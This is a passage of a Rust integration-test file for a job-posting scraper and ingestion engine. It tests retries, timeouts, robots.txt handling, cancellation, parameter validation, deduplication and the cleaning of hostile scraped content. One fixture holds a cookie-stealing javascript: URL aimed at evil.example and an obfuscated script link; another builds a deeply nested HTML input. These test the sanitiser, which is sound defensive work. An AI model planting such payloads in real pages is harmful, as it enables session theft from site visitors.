            let page = std::str::from_utf8(page)
                .unwrap()
                .replace("\"minValue\": 170000", "\"minValue\": 180000")
                .replace("\"maxValue\": 190000", "\"maxValue\": 200000");
            server.set_body(&careers_path("array"), page);
        },
        |_| "127.0.0.1:RUST-0042".into(),
        |p| {
            assert_eq!(p.salary_min, Some(180_000.0));
            assert_eq!(p.salary_max, Some(200_000.0));
        },
    )
    .await;
}

// =============================================================================================
// 4–10. Failure modes

#[tokio::test]
async fn a_429_with_retry_after_is_waited_out_and_the_run_succeeds() {
    for db in testkit::databases("engine_429").await {
        let h = Harness::new(&db).await;
        h.server.script(
            &greenhouse_path(),
            Reply::status(StatusCode::TOO_MANY_REQUESTS).header("retry-after", "1"),
        );
        let started = Instant::now();
        let out = h.run(Source::Greenhouse, target(GREENHOUSE_TOKEN)).await;
        check_succeeded(&out, Source::Greenhouse);
        assert!(
            started.elapsed() >= Duration::from_millis(900),
            "Retry-After: 1 was honoured ({:?})",
            started.elapsed()
        );
        let c = out.report.counters;
        assert_eq!(c.http_errors, 1, "the 429");
        assert_eq!(c.requests, 3, "robots.txt, the 429, the retry");
        assert_eq!(c.jobs_new, 2);
        assert_eq!(h.server.hits(&greenhouse_path()), 2);
        assert_eq!(postings(h.db(), Source::Greenhouse).await.len(), 2);
    }
}

#[tokio::test]
async fn a_500_is_retried_and_the_run_succeeds() {
    for db in testkit::databases("engine_500").await {
        let h = Harness::new(&db).await;
        h.server.script(
            &lever_path(),
            Reply::status(StatusCode::INTERNAL_SERVER_ERROR),
        );
        let out = h.run(Source::Lever, target(LEVER_SITE)).await;
        check_succeeded(&out, Source::Lever);
        let c = out.report.counters;
        assert_eq!((c.http_errors, c.requests), (1, 3));
        assert_eq!(c.jobs_new, 2);
        assert_eq!(h.server.hits(&lever_path()), 2);
    }
}

#[tokio::test]
async fn a_server_slower_than_the_timeout_fails_the_run_naming_the_url() {
    for db in testkit::databases("engine_timeout").await {
        let config = ingest::fetch::FetchConfig {
            total_timeout: Duration::from_millis(500),
            max_retries: 1,
            ..fetch_config()
        };
        let h = Harness::with_fetch_config(&db, config).await;
        for _ in 0..2 {
            h.server.script(
                &ashby_path(),
                Reply::ok(ASHBY_BOARD, "application/json").delayed(Duration::from_secs(3)),
            );
        }
        let started = Instant::now();
        let out = h.run(Source::Ashby, target(ASHBY_BOARD_NAME)).await;
        check_run(&out, Source::Ashby);
        assert!(
            started.elapsed() < Duration::from_secs(3),
            "{:?}",
            started.elapsed()
        );
        assert_eq!(out.report.status, RunStatus::Failed);
        let error = out.report.error.as_deref().unwrap();
        let url = h
            .server
            .url("/posting-api/job-board/comand-ai?includeCompensation=true");
        assert!(error.contains(url.as_str()), "{error}");
        assert!(error.contains("timed out"), "{error}");
        let c = out.report.counters;
        assert_eq!(h.server.hits(&ashby_path()), 2, "one retry");
        assert_eq!((c.http_errors, c.jobs_found), (2, 0));
        assert!(postings(h.db(), Source::Ashby).await.is_empty());
    }
}

#[tokio::test]
async fn a_truncated_greenhouse_body_fails_the_run_with_the_json_error_position() {
    for db in testkit::databases("engine_truncated").await {
        let h = Harness::new(&db).await;
        h.server.set_body(
            &greenhouse_path(),
            &GREENHOUSE_BOARD[..GREENHOUSE_BOARD.len() / 2],
        );
        let out = h.run(Source::Greenhouse, target(GREENHOUSE_TOKEN)).await;
        let events = check_run(&out, Source::Greenhouse);
        assert_eq!(out.report.status, RunStatus::Failed);
        let error = out.report.error.as_deref().unwrap();
        assert!(error.contains("invalid JSON at line"), "{error}");
        assert!(error.contains("Greenhouse"), "{error}");
        assert!(
            error.contains(
                h.server
                    .url("/v1/boards/helsing/jobs?content=true")
                    .as_str()
            ),
            "{error}"
        );
        assert_eq!(
            h.server.hits(&greenhouse_path()),
            1,
            "a broken body is not retried"
        );
        assert_eq!(events.pages, 0);
        assert_eq!(out.report.counters.pages_fetched, 1);
        assert!(postings(h.db(), Source::Greenhouse).await.is_empty());
    }
}

#[tokio::test]
async fn garbage_instead_of_an_indeed_search_page_fails_the_run_with_a_clear_error() {
    for db in testkit::databases("engine_indeed_garbage").await {
        let h = Harness::new(&db).await;
        h.server.set_body(
            INDEED_FIRST_PAGE,
            "<html><head><title>Oops<title><body><div class=<<>>>&&&</p></td></table>",
        );
        let out = h.run(Source::Indeed, indeed_params()).await;
        check_run(&out, Source::Indeed);
        assert_eq!(out.report.status, RunStatus::Failed);
        let error = out.report.error.as_deref().unwrap();
        assert!(error.contains("Indeed search page"), "{error}");
        assert!(error.contains("no job cards"), "{error}");
        assert!(
            error.contains(&h.server.base.to_string()),
            "names the URL: {error}"
        );
        assert_eq!(h.server.hits(INDEED_VIEW), 0);
        assert!(postings(h.db(), Source::Indeed).await.is_empty());
    }
}

#[tokio::test]
async fn a_career_page_without_job_postings_succeeds_with_nothing_found() {
    for db in testkit::databases("engine_jsonld_garbage").await {
        let h = Harness::new(&db).await;
        let url = h.server.url(&careers_path("garbage"));
        let out = h.run(Source::Jsonld, target(url.as_str())).await;
        let events = check_succeeded(&out, Source::Jsonld);
        let c = out.report.counters;
        assert_eq!((c.pages_fetched, c.jobs_found, c.jobs_new), (1, 0, 0));
        assert_eq!(events.pages, 0, "nothing to store");
        assert_eq!(h.server.hits(&careers_path("garbage")), 1);
        assert!(postings(h.db(), Source::Jsonld).await.is_empty());
    }
}

#[tokio::test]
async fn an_indeed_challenge_served_with_200_blocks_the_run_without_retrying() {
    for db in testkit::databases("engine_challenge").await {
        let h = Harness::new(&db).await;
        h.server.set_body(INDEED_FIRST_PAGE, INDEED_CHALLENGE);
        let out = h.run(Source::Indeed, indeed_params()).await;
        check_run(&out, Source::Indeed);
        assert_eq!(out.report.status, RunStatus::Blocked);
        let error = out.report.error.as_deref().unwrap();
        assert!(error.contains("challenge"), "{error}");
        assert!(error.contains("not retrying"), "{error}");
        assert_eq!(
            h.server.hits(INDEED_FIRST_PAGE),
            1,
            "the challenge is not retried"
        );
        assert_eq!(h.server.hits(INDEED_VIEW), 0);
        assert_eq!(
            out.report.counters.requests, 2,
            "robots.txt and the search page"
        );
        assert!(postings(h.db(), Source::Indeed).await.is_empty());
    }
}

#[tokio::test]
async fn a_robots_txt_disallowing_the_board_fails_the_run_without_requesting_it() {
    for db in testkit::databases("engine_robots").await {
        let h = Harness::new(&db).await;
        h.server
            .set_robots("User-agent: *\nDisallow: /v1/boards/\n");
        let out = h.run(Source::Greenhouse, target(GREENHOUSE_TOKEN)).await;
        check_run(&out, Source::Greenhouse);
        assert_eq!(out.report.status, RunStatus::Failed);
        let error = out.report.error.as_deref().unwrap();
        assert!(error.contains("robots.txt"), "{error}");
        assert!(error.contains("/v1/boards/helsing/jobs"), "{error}");
        assert_eq!(h.server.hits("/robots.txt"), 1);
        assert_eq!(
            h.server.hits_under("/v1/"),
            0,
            "the disallowed path is never requested"
        );
        assert_eq!(out.report.counters.requests, 1);
    }
}

#[tokio::test]
async fn a_robots_txt_disallowing_seek_job_pages_stores_the_cards_alone() {
    for db in testkit::databases("engine_robots_seek").await {
        let h = Harness::new(&db).await;
        h.server
            .set_robots("User-agent: jobintel\nDisallow: /job/\n");
        let out = h.run(Source::Seek, seek_params()).await;
        check_succeeded(&out, Source::Seek);
        assert_eq!(out.report.counters.jobs_new, 20);
        assert_eq!(h.server.hits(SEEK_JOB), 0, "no job page is requested");
        let p = posting(h.db(), Source::Seek, "84392059").await;
        assert_eq!(p.description_html, None);
        assert!(
            p.description_text
                .as_deref()
                .unwrap()
                .starts_with("Build and modernise impactful payroll systems"),
            "the card's teaser stands in"
        );
        assert_eq!(p.salary_min, Some(110_000.0));
    }
}

#[tokio::test]
async fn a_seek_job_page_that_keeps_failing_leaves_the_card_and_the_run_succeeds() {
    for db in testkit::databases("engine_seek_job_500").await {
        let h = Harness::new(&db).await;
        // The first job page fails on every attempt (1 + 2 retries).
        for _ in 0..3 {
            h.server
                .script(SEEK_JOB, Reply::status(StatusCode::SERVICE_UNAVAILABLE));
        }
        let out = h.run(Source::Seek, seek_params()).await;
        check_succeeded(&out, Source::Seek);
        let c = out.report.counters;
        assert_eq!(c.jobs_new, 20);
        assert_eq!(c.http_errors, 3);
        let without_ad = postings(h.db(), Source::Seek)
            .await
            .into_iter()
            .filter(|p| p.description_html.is_none())
            .count();
        assert_eq!(
            without_ad, 1,
            "only the posting whose job page failed lacks the ad"
        );
    }
}

// =============================================================================================
// 11. Cancellation

#[tokio::test]
async fn cancelling_a_seek_run_after_page_one_keeps_page_one_and_ends_cancelled() {
    for db in testkit::databases("engine_cancel").await {
        let h = Harness::new(&db).await;
        h.server.script(
            &seek_page(2),
            Reply::ok(SEEK_PAGE2, "application/json").delayed(Duration::from_secs(20)),
        );
        let mut rx = h.engine.bus.subscribe();
        let run = h.claimed_run(Source::Seek, seek_params()).await;
        let cancel = CancellationToken::new();
        let task = {
            let (engine, run, cancel) = (h.engine.clone(), run.clone(), cancel.clone());
            tokio::spawn(async move { engine.execute(&run, &cancel).await })
        };
        let mut events = Vec::new();
        tokio::time::timeout(Duration::from_secs(10), async {
            loop {
                let event = rx.recv().await.unwrap();
                let page_stored = matches!(event, IngestEvent::PageStored { .. });
                events.push(event);
                if page_stored {
                    break;
                }
            }
        })
        .await
        .expect("page 1 is stored");
        // While page 2 hangs, the run row already shows page 1's progress.
        let row = entity::ingest_run::Entity::find_by_id(run.id)
            .one(h.db())
            .await
            .unwrap()
            .unwrap();
        assert_eq!(row.status, RunStatus::Running);
        assert_eq!(
            (row.jobs_found, row.jobs_new),
            (10, 10),
            "progress saved per page"
        );
        assert!(row.heartbeat_at >= run.heartbeat_at, "heartbeat refreshed");
        cancel.cancel();
        let report = tokio::time::timeout(Duration::from_secs(5), task)
            .await
            .expect("cancelling ends the run promptly, without waiting for page 2")
            .unwrap()
            .unwrap();
        while let Ok(event) = rx.try_recv() {
            events.push(event);
        }
        let out = Outcome { report, events };
        check_run(&out, Source::Seek);
        assert_eq!(out.report.status, RunStatus::Cancelled);
        assert_eq!(out.report.error.as_deref(), Some("cancelled"));
        let c = out.report.counters;
        assert_eq!((c.jobs_found, c.jobs_new), (10, 10), "page 1's postings");
        let rows = postings(h.db(), Source::Seek).await;
        assert_eq!(rows.len(), 10, "page 1 stays stored");
        assert!(rows.iter().all(|r| r.first_run_id == Some(run.id)));
        assert!(rows.iter().all(|r| r.description_html.is_some()));
    }
}

// =============================================================================================
// 12. The private-network guard

#[tokio::test]
async fn the_private_network_guard_refuses_a_career_page_on_localhost() {
    for db in testkit::databases("engine_private").await {
        let config = ingest::fetch::FetchConfig {
            allow_private_network: false,
            ..fetch_config()
        };
        let h = Harness::with_fetch_config(&db, config).await;
        let url = h.server.url(&careers_path("array"));
        let out = h.run(Source::Jsonld, target(url.as_str())).await;
        check_run(&out, Source::Jsonld);
        assert_eq!(out.report.status, RunStatus::Failed);
        let error = out.report.error.as_deref().unwrap();
        assert!(error.contains("JOBINTEL_ALLOW_PRIVATE_NETWORK"), "{error}");
        assert!(error.contains(url.as_str()), "{error}");
        assert_eq!(
            h.server.total_hits(),
            0,
            "nothing was sent, not even robots.txt"
        );
        assert_eq!(out.report.counters.requests, 0);
    }
}

// =============================================================================================
// 13. Parameters

fn config() -> EngineConfig {
    EngineConfig::default()
}

fn rejected(source: Source, params: SearchParams) -> String {
    validate_params(source, &params, &config())
        .expect_err("parameters are rejected")
        .0
}

#[test]
fn boards_without_a_target_are_told_to_send_the_board_token() {
    let message = rejected(Source::Greenhouse, SearchParams::default());
    assert!(message.contains("`target`"), "{message}");
    assert!(message.contains("jobs.greenhouse.io/acme"), "{message}");
    let message = rejected(Source::Lever, target("   "));
    assert!(
        message.contains("`target`") && message.contains("lever.co"),
        "{message}"
    );
    let message = rejected(Source::Ashby, SearchParams::default());
    assert!(
        message.contains("`target`") && message.contains("ashbyhq.com"),
        "{message}"
    );
}

#[test]
fn a_board_target_that_is_a_url_is_rejected() {
    let message = rejected(
        Source::Greenhouse,
        target("https://boards.greenhouse.io/acme"),
    );
    assert!(message.contains("board token, not a URL"), "{message}");
}

#[test]
fn jsonld_without_a_target_url_is_told_to_send_the_career_page_url() {
    let message = rejected(Source::Jsonld, SearchParams::default());
    assert!(message.contains("`target`"), "{message}");
    assert!(message.contains("career page URL"), "{message}");
    let message = rejected(Source::Jsonld, target("careers.example.com/jobs"));
    assert!(message.contains("http(s) URL"), "{message}");
    let message = rejected(Source::Jsonld, target("ftp://example.com/jobs"));
    assert!(message.contains("http(s) URL"), "{message}");
}

#[test]
fn a_seek_country_other_than_au_or_nz_is_rejected() {
    let params = SearchParams {
        country: Some("UK".into()),
        ..seek_params()
    };
    let message = rejected(Source::Seek, params);
    assert!(message.contains("`au` or `nz`"), "{message}");
    assert!(message.contains("`uk`"), "{message}");
}

#[test]
fn max_pages_must_be_between_one_and_the_limit() {
    for n in [0, 51] {
        let params = SearchParams {
            max_pages: Some(n),
            ..seek_params()
        };
        let message = rejected(Source::Seek, params);
        assert_eq!(
            message,
            format!("maxPages must be between 1 and 50, got {n}")
        );
    }
    let params = SearchParams {
        max_pages: Some(50),
        ..seek_params()
    };
    assert!(validate_params(Source::Seek, &params, &config()).is_ok());
}

#[test]
fn indeed_needs_keywords_or_a_location_and_a_two_letter_country() {
    let message = rejected(
        Source::Indeed,
        SearchParams {
            keywords: Some("  ".into()),
            ..SearchParams::default()
        },
    );
    assert!(message.contains("`keywords` or `location`"), "{message}");
    let message = rejected(
        Source::Indeed,
        SearchParams {
            country: Some("aus".into()),
            ..indeed_params()
        },
    );
    assert!(message.contains("two-letter code"), "{message}");
}

#[test]
fn valid_parameters_come_back_trimmed_and_lower_cased() {
    let params = SearchParams {
        keywords: Some("  rust  ".into()),
        location: Some("   ".into()),
        country: Some(" NZ ".into()),
        ..SearchParams::default()
    };
    let clean = validate_params(Source::Seek, &params, &config()).unwrap();
    assert_eq!(clean.keywords.as_deref(), Some("rust"));
    assert_eq!(clean.location, None);
    assert_eq!(clean.country.as_deref(), Some("nz"));
}

#[tokio::test]
async fn a_run_with_invalid_parameters_fails_without_sending_a_request() {
    for db in testkit::databases("engine_bad_params").await {
        let h = Harness::new(&db).await;
        let out = h.run(Source::Greenhouse, SearchParams::default()).await;
        check_run(&out, Source::Greenhouse);
        assert_eq!(out.report.status, RunStatus::Failed);
        let error = out.report.error.as_deref().unwrap();
        assert!(error.contains("needs `target`"), "{error}");
        assert_eq!(h.server.total_hits(), 0);
        assert_eq!(out.report.counters, Default::default());
    }
}

// =============================================================================================
// 14. Deduplication

#[tokio::test]
async fn seek_ids_repeated_within_a_page_across_pages_and_across_runs_are_stored_once() {
    for db in testkit::databases("engine_dedupe").await {
        let h = Harness::new(&db).await;
        // Page 3 repeats the whole of page 1 (and page 4 is empty): nothing new, so the search
        // stops there.
        h.server.set_body(&seek_page(3), SEEK_PAGE1);
        for run in 1..=2 {
            let out = h.run(Source::Seek, seek_params()).await;
            check_succeeded(&out, Source::Seek);
            let c = out.report.counters;
            assert_eq!(c.jobs_found, 20, "run {run}: 33 cards, 20 distinct ids");
            assert_eq!(
                c.pages_fetched, 3,
                "run {run}: a page of repeats ends the search"
            );
            let total = count(
                h.db(),
                "SELECT COUNT(*) AS n FROM job_postings WHERE source = 'seek'",
            )
            .await;
            let distinct = count(
                h.db(),
                "SELECT COUNT(DISTINCT external_id) AS n FROM job_postings WHERE source = 'seek'",
            )
            .await;
            assert_eq!((total, distinct), (20, 20), "run {run}");
        }
        assert_eq!(
            h.server.hits(SEEK_JOB),
            20,
            "each job page once, on the first run"
        );
    }
}

#[tokio::test]
async fn a_job_listed_twice_on_a_board_is_stored_and_counted_once() {
    for db in testkit::databases("engine_dedupe_board").await {
        let h = Harness::new(&db).await;
        let board = edit_json(GREENHOUSE_BOARD, |doc| {
            let first = doc["jobs"][0].clone();
            doc["jobs"].as_array_mut().unwrap().push(first);
        });
        h.server.set_body(&greenhouse_path(), board);
        let out = h.run(Source::Greenhouse, target(GREENHOUSE_TOKEN)).await;
        let events = check_succeeded(&out, Source::Greenhouse);
        let c = out.report.counters;
        assert_eq!(
            (c.jobs_found, c.jobs_new, c.jobs_unchanged),
            (2, 2, 0),
            "found counts distinct postings: {c:?}"
        );
        assert_eq!(events.added.len(), 2);
        let n = count(
            h.db(),
            "SELECT COUNT(*) AS n FROM job_postings WHERE source = 'greenhouse'",
        )
        .await;
        assert_eq!(n, 2);
    }
}

// =============================================================================================
// Pages already stored stay stored; progress is saved page by page

#[tokio::test]
async fn a_seek_page_that_keeps_failing_after_page_one_fails_the_run_and_keeps_page_one() {
    for db in testkit::databases("engine_seek_page2_fails").await {
        let h = Harness::new(&db).await;
        for _ in 0..3 {
            h.server
                .script(&seek_page(2), Reply::status(StatusCode::BAD_GATEWAY));
        }
        let out = h.run(Source::Seek, seek_params()).await;
        let events = check_run(&out, Source::Seek);
        assert_eq!(out.report.status, RunStatus::Failed);
        let error = out.report.error.as_deref().unwrap();
        assert!(error.contains("HTTP 502"), "{error}");
        assert!(error.contains("page=2"), "names the page's URL: {error}");
        let c = out.report.counters;
        assert_eq!((c.jobs_found, c.jobs_new, c.http_errors), (10, 10, 3));
        assert_eq!(events.pages, 1);
        assert_eq!(postings(h.db(), Source::Seek).await.len(), 10);
    }
}

#[tokio::test]
async fn an_unknown_lever_site_fails_the_run_with_the_http_status() {
    for db in testkit::databases("engine_lever_404").await {
        let h = Harness::new(&db).await;
        let out = h.run(Source::Lever, target("no-such-site")).await;
        check_run(&out, Source::Lever);
        assert_eq!(out.report.status, RunStatus::Failed);
        let error = out.report.error.as_deref().unwrap();
        assert!(error.contains("HTTP 404"), "{error}");
        assert!(
            error.contains("/v0/postings/no-such-site?mode=json"),
            "{error}"
        );
        assert_eq!(
            h.server.hits("/v0/postings/no-such-site"),
            1,
            "a 404 is not retried"
        );
    }
}

// =============================================================================================
// The store on its own

fn long_id_posting(title: &str) -> ingest::NormalizedPosting {
    ingest::NormalizedPosting {
        source: Source::Jsonld,
        external_id: format!("careers.example.com:{}", "x".repeat(300)),
        url: "https://careers.example.com/jobs/1".into(),
        apply_url: None,
        title: title.into(),
        company: Some("Example".into()),
        company_external_id: None,
        location: Default::default(),
        work_type: None,
        work_arrangement: WorkArrangement::Unknown,
        salary: Default::default(),
        description_html: None,
        description_text: None,
        classification: None,
        posted_at: None,
        expires_at: None,
        raw: json!({}),
    }
}

#[tokio::test]
async fn a_posting_whose_id_is_longer_than_the_column_is_found_again_on_the_next_page() {
    for db in testkit::databases("engine_store_long_id").await {
        let h = Harness::new(&db).await;
        let run = h
            .claimed_run(Source::Jsonld, target("https://careers.example.com/"))
            .await;
        let first = ingest::store::upsert_page(h.db(), run.id, &[long_id_posting("Cook")])
            .await
            .unwrap();
        assert_eq!(first.new.len(), 1);
        let again = ingest::store::upsert_page(h.db(), run.id, &[long_id_posting("Cook")])
            .await
            .unwrap();
        assert_eq!(
            (again.new.len(), again.updated.len(), again.unchanged),
            (0, 0, 1),
            "the same posting again is unchanged"
        );
        let changed = ingest::store::upsert_page(h.db(), run.id, &[long_id_posting("Chef")])
            .await
            .unwrap();
        assert_eq!(
            changed.updated, first.new,
            "a change is an update of the same row"
        );
        let rows = postings(h.db(), Source::Jsonld).await;
        assert_eq!(rows.len(), 1);
        assert_eq!(rows[0].title, "Chef");
        assert!(rows[0].external_id.len() <= 255);
        let known = ingest::store::known_external_ids(
            h.db(),
            Source::Jsonld,
            &[long_id_posting("Chef").external_id],
        )
        .await
        .unwrap();
        assert!(
            known.contains(&long_id_posting("Chef").external_id),
            "known_external_ids answers in the caller's ids"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Hostile scraped content (issue #11): links, NULs

/// A career page anyone could point a `jsonld` run at, with three postings whose `url`s are a
/// script link, a script link spelled to slip past a prefix check, and a relative link.
const HOSTILE_LINKS_PAGE: &str = r#"<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Careers | Example Pty Ltd</title>
<script type="application/ld+json">
[{"@context":"https://schema.org","@type":"JobPosting","identifier":"XSS-1",
  "title":"Barista","url":"javascript:fetch('//evil.example/'+document.cookie)",
  "description":"<p>Make coffee.</p>","datePosted":"2026-11-20",
  "hiringOrganization":{"@type":"Organization","name":"Example Pty Ltd"},
  "jobLocation":{"@type":"Place","address":{"addressLocality":"Sydney","addressRegion":"NSW","addressCountry":"AU"}}},
 {"@context":"https://schema.org","@type":"JobPosting","identifier":"XSS-2",
  "title":"Cook","url":" \u0001JaVa\tScRiPt:alert(1)",
  "description":"<p>Cook things.</p>","datePosted":"2026-11-20",
  "hiringOrganization":{"@type":"Organization","name":"Example Pty Ltd"}},
 {"@context":"https://schema.org","@type":"JobPosting","identifier":"REL-3",
  "title":"Dishwasher","url":"/careers/jobs/3",
  "description":"<p>Wash dishes.</p>","datePosted":"2026-11-20",
  "hiringOrganization":{"@type":"Organization","name":"Example Pty Ltd"}}]
</script></head>
<body><h1>Join us</h1><ul><li><a href="/careers/jobs/3">Dishwasher</a></li></ul></body></html>"#;

#[tokio::test]
async fn a_jsonld_page_with_script_urls_stores_web_links_only() {
    for db in testkit::databases("engine_hostile_links").await {
        let h = Harness::new(&db).await;
        let path = careers_path("hostile-links");
        h.server.set_body(&path, HOSTILE_LINKS_PAGE);
        let page = h.server.url(&path);

        let out = h.run(Source::Jsonld, target(page.as_str())).await;
        check_succeeded(&out, Source::Jsonld);
        assert_eq!(out.report.counters.jobs_new, 3, "{:?}", db.backend);

        let host = "127.0.0.1";
        for id in ["XSS-1", "XSS-2"] {
            let p = posting(h.db(), Source::Jsonld, &format!("{host}:{id}")).await;
            assert_eq!(p.url, page.as_str(), "{id}: the page's own URL stands in");
            assert_eq!(p.apply_url, None, "{id}");
        }
        let p = posting(h.db(), Source::Jsonld, &format!("{host}:REL-3")).await;
        assert_eq!(p.url, h.server.url("/careers/jobs/3").as_str());
        let script_urls = count(
            h.db(),
            "SELECT COUNT(*) AS n FROM job_postings WHERE LOWER(url) NOT LIKE 'http%' \
             OR LOWER(apply_url) NOT LIKE 'http%'",
        )
        .await;
        assert_eq!(script_urls, 0, "{:?}", db.backend);
    }
}

/// A posting whose title, description and JSON carry NUL characters: PostgreSQL refuses them in
/// `text` and `jsonb`, which used to fail the page on every retry.
const NUL_PAGE: &str = r#"<!DOCTYPE html>
<html><head><title>Careers</title>
<script type="application/ld+json">
{"@context":"https://schema.org","@type":"JobPosting","identifier":"NUL-1",
 "title":"Night\u0000 Fill Assistant",
 "description":"<p>Stack\u0000 shelves &amp; rotate stock.</p><p>Nights\u0000 only.</p>",
 "datePosted":"2026-11-21","employmentType":"PART_TIME",
 "hiringOrganization":{"@type":"Organization","name":"Example\u0000 Grocers"},
 "jobLocation":{"@type":"Place","address":{"addressLocality":"Perth\u0000","addressRegion":"WA","addressCountry":"AU"}},
 "baseSalary":{"@type":"MonetaryAmount","currency":"AUD","value":{"@type":"QuantitativeValue","value":31.5,"unitText":"HOUR"}},
 "x-notes\u0000":{"deep":["a\u0000b",{"k\u0000":"v\u0000"}]}}
</script></head><body><p>Night fill</p></body></html>"#;

#[tokio::test]
async fn a_posting_with_nul_characters_is_stored_without_them_on_every_database() {
    for db in testkit::databases("engine_nul").await {
        let h = Harness::new(&db).await;
        let path = careers_path("nul");
        h.server.set_body(&path, NUL_PAGE);
        let page = h.server.url(&path);

        let out = h.run(Source::Jsonld, target(page.as_str())).await;
        check_succeeded(&out, Source::Jsonld);
        assert_eq!(out.report.counters.jobs_new, 1, "{:?}", db.backend);

        let p = posting(h.db(), Source::Jsonld, "127.0.0.1:NUL-1").await;
        assert_eq!(p.title, "Night Fill Assistant", "{:?}", db.backend);
        assert_eq!(p.company.as_deref(), Some("Example Grocers"));
        assert_eq!(p.city.as_deref(), Some("Perth"));
        let html = p.description_html.clone().unwrap();
        assert_eq!(
            html,
            "<p>Stack shelves &amp; rotate stock.</p><p>Nights only.</p>"
        );
        assert_clean_description(&p);
        let raw = p.raw.clone().unwrap();
        assert_eq!(raw["title"], "Night Fill Assistant");
        assert_eq!(raw["x-notes"], json!({"deep": ["ab", {"k": "v"}]}));
        assert!(!raw.to_string().contains("\\u0000"), "{raw}");

        // The same page again: unchanged, not failed.
        let again = h.run(Source::Jsonld, target(page.as_str())).await;
        check_succeeded(&again, Source::Jsonld);
        assert_eq!(again.report.counters.jobs_unchanged, 1);
    }
}

/// A career page whose first posting's description is 1.5 MB of `<div>`s nested 140,000 deep
/// (html5ever's time grows with the square of the depth), next to an ordinary posting.
fn nested_div_page() -> String {
    let depth = 1_500_000 / 11;
    let description = format!(
        "<p>Pack orders.</p>{}deep{}",
        "<div>".repeat(depth),
        "</div>".repeat(depth)
    );
    let postings = json!([
        {"@context": "https://schema.org", "@type": "JobPosting", "identifier": "DEEP-1",
         "title": "Picker Packer", "description": description, "datePosted": "2026-11-22",
         "hiringOrganization": {"@type": "Organization", "name": "Example Logistics"}},
        {"@context": "https://schema.org", "@type": "JobPosting", "identifier": "OK-2",
         "title": "Forklift Driver", "description": "<p>Drive forklifts.</p>",
         "datePosted": "2026-11-22",
         "hiringOrganization": {"@type": "Organization", "name": "Example Logistics"}}
    ]);
    format!(
        "<!DOCTYPE html><html><head><title>Careers</title>\
         <script type=\"application/ld+json\">{postings}</script></head>\
         <body><h1>Careers</h1></body></html>"
    )
}

#[tokio::test]
async fn a_huge_nested_description_is_cut_counted_and_does_not_stall_the_runtime() {
    for db in testkit::databases("engine_nested_divs").await {
        let h = Harness::new(&db).await;
        let path = careers_path("nested");
        h.server.set_body(&path, nested_div_page());
        let page = h.server.url(&path);

        // A task on the same runtime measures how long it goes without being polled while the
        // run parses: lease heartbeats and other runs' requests would wait as long.
        let done = CancellationToken::new();
        let ticker = tokio::spawn({
            let done = done.clone();
            async move {
                let mut worst = Duration::ZERO;
                let mut last = Instant::now();
                while !done.is_cancelled() {
                    tokio::time::sleep(Duration::from_millis(5)).await;
                    worst = worst.max(last.elapsed());
                    last = Instant::now();
                }
                worst
            }
        });
        let out = h.run(Source::Jsonld, target(page.as_str())).await;
        done.cancel();
        let worst = ticker.await.unwrap();

        check_succeeded(&out, Source::Jsonld);
        let c = out.report.counters;
        assert_eq!(
            (c.jobs_new, c.descriptions_truncated),
            (2, 1),
            "{:?}",
            db.backend
        );
        assert_eq!(
            out.report.run.descriptions_truncated, 1,
            "stored on the run row"
        );
        let p = posting(h.db(), Source::Jsonld, "127.0.0.1:DEEP-1").await;
        let html = p.description_html.as_deref().unwrap();
        assert!(html.starts_with("<p>Pack orders.</p>"), "{}", &html[..100]);
        assert!(html.ends_with(&format!("<p>{}</p>", ingest::normalize::TRUNCATION_NOTE)));
        assert!(html.len() < 600 * 1024, "{} bytes", html.len());
        assert!(
            p.description_text
                .as_deref()
                .unwrap()
                .ends_with(ingest::normalize::TRUNCATION_NOTE)
        );
        let ok = posting(h.db(), Source::Jsonld, "127.0.0.1:OK-2").await;
        assert_eq!(
            ok.description_html.as_deref(),
            Some("<p>Drive forklifts.</p>")
        );
        assert!(
            worst < Duration::from_millis(750),
            "the runtime went {worst:?} without polling other tasks"
        );
    }
}
